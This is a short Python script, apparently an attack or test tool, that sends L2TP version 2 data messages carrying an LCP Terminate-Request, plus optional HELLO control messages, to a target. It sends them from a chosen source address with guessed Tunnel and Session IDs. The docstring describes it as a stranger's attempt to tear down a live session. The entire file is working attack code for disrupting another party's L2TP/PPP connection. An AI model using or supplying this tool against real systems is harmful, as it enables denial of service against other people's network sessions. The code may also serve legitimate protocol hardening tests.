#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""l2tp-spoof.py HOST PORT --src ADDR[:PORT] --tunnel T --session S [--count N] [--hello]
Send N L2TP data messages to HOST:PORT from ADDR (and PORT, else a free
one), for Tunnel ID T and Session ID S (the receiver's), each carrying an
LCP Terminate-Request; with --hello, also N HELLO control messages to
tunnel T (Ns 0, Nr 0). A stranger's attempt to take a live session down by
guessing its IDs. Never answers anything; prints the number sent."""
import argparse
import socket
import struct

TERMINATE = bytes([0xFF, 0x03, 0xC0, 0x21, 0x05, 0x01, 0x00, 0x04])


def data(tid, sid):
    # T=0, L=0, S=0, version 2: flags word, Tunnel ID, Session ID, frame
    return struct.pack("!HHH", 0x0002, tid, sid) + TERMINATE


def hello(tid):
    avp = struct.pack("!HHHH", 0x8008, 0, 0, 6)  # Message Type 6 (HELLO)
    return struct.pack("!HHHHHH", 0xC802, 12 + len(avp), tid, 0, 0, 0) + avp


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("host")
    ap.add_argument("port", type=int)
    ap.add_argument("--src", required=True)
    ap.add_argument("--tunnel", type=int, required=True)
    ap.add_argument("--session", type=int, required=True)
    ap.add_argument("--count", type=int, default=1)
    ap.add_argument("--hello", action="store_true")
    o = ap.parse_args()
    addr, _, port = o.src.partition(":")
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind((addr, int(port) if port else 0))
    sent = 0
    for _ in range(o.count):
        s.sendto(data(o.tunnel, o.session), (o.host, o.port))
        sent += 1
        if o.hello:
            s.sendto(hello(o.tunnel), (o.host, o.port))
            sent += 1
    s.close()
    print(sent)


if __name__ == "__main__":
    main()
